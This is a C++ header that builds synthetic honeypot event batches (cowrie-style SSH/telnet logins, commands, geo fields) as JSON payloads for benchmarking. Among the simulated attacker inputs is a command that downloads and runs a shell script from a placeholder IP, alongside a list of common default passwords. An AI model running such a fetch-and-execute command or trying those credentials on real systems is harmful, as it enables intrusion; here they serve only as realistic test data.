// Realistic benchmark payloads: a batch of honeypot events as a sensor
// uploads them (cowrie-style SSH/telnet events with nested geo and session
// fields, tags, floats, booleans and nulls), not one long string. Shared by
// the stage benchmark and cybexp-bench-fill so both measure the same shape.
#pragma once

#include <cstdint>
#include <string>

namespace cybexp::bench {

// About `size` bytes of JSON (never more than size + 400); `seed` makes
// batches distinct.
inline std::string honeypot_batch(std::uint64_t seed, std::size_t size) {
  static const char* const kEvents[] = {"cowrie.login.failed", "cowrie.login.success",
                                        "cowrie.command.input", "cowrie.session.connect",
                                        "cowrie.session.closed", "cowrie.client.version"};
  static const char* const kUsers[] = {"root", "admin", "ubuntu", "pi", "oracle", "test", "user"};
  static const char* const kPasswords[] = {"123456", "password", "admin", "raspberry",
                                           "qwerty", "letmein", "P@ssw0rd!"};
  static const char* const kCountries[] = {"US", "CN", "RU", "BR", "DE", "IN", "VN", "NL"};
  static const char* const kCommands[] = {
      "uname -a", "cat /proc/cpuinfo | grep name | wc -l",
      "cd /tmp && wget http://198.51.100.7/x.sh && sh x.sh", "echo \\\"ok\\\"",
      "free -m | grep Mem | awk '{print $2}'", "ls -la /var/run"};
  std::uint64_t x = seed * 0x9E3779B97F4A7C15ULL + 1;
  auto rnd = [&x](std::uint64_t n) {
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    return x % n;
  };
  std::string s = "{\"sensor\": \"hp-" + std::to_string(seed % 97) + "\", \"batch\": " +
                  std::to_string(seed) + ", \"events\": [";
  for (std::uint64_t i = 0; s.size() + 2 < size; ++i) {
    if (i > 0) s += ", ";
    const char* ev = kEvents[rnd(6)];
    const std::string ip = "203.0." + std::to_string(rnd(256)) + "." + std::to_string(rnd(256));
    s += "{\"eventid\": \"";
    s += ev;
    s += "\", \"timestamp\": \"2026-11-29T21:";
    s += std::to_string(10 + rnd(50)) + ":" + std::to_string(10 + rnd(50)) + "." +
         std::to_string(100000 + rnd(900000)) + "Z\", \"src_ip\": \"" + ip +
         "\", \"src_port\": " + std::to_string(1024 + rnd(64000)) +
         ", \"dst_ip\": \"10.0.0." + std::to_string(rnd(16)) + "\", \"dst_port\": " +
         (rnd(3) == 0 ? "23" : "22") + ", \"session\": \"" + std::to_string(1000000000 + rnd(999999999)) +
         "ab\", \"protocol\": \"" + (rnd(3) == 0 ? "telnet" : "ssh") + "\", \"username\": \"" +
         kUsers[rnd(7)] + "\", \"password\": \"" + kPasswords[rnd(7)] + "\", \"input\": \"" +
         kCommands[rnd(6)] + "\", \"success\": " + (rnd(5) == 0 ? "true" : "false") +
         ", \"duration\": " + std::to_string(rnd(100000) / 1000.0).substr(0, 5) +
         ", \"ttylog\": null, \"geo\": {\"country\": \"" + kCountries[rnd(8)] +
         "\", \"asn\": " + std::to_string(1000 + rnd(60000)) + ", \"lat\": " +
         std::to_string(rnd(18000) / 100.0 - 90).substr(0, 6) + ", \"lon\": " +
         std::to_string(rnd(36000) / 100.0 - 180).substr(0, 6) +
         "}, \"tags\": [\"ssh\", \"bruteforce\", \"sensor-" + std::to_string(rnd(8)) + "\"]}";
  }
  s += "]}";
  return s;
}

}  // namespace cybexp::bench
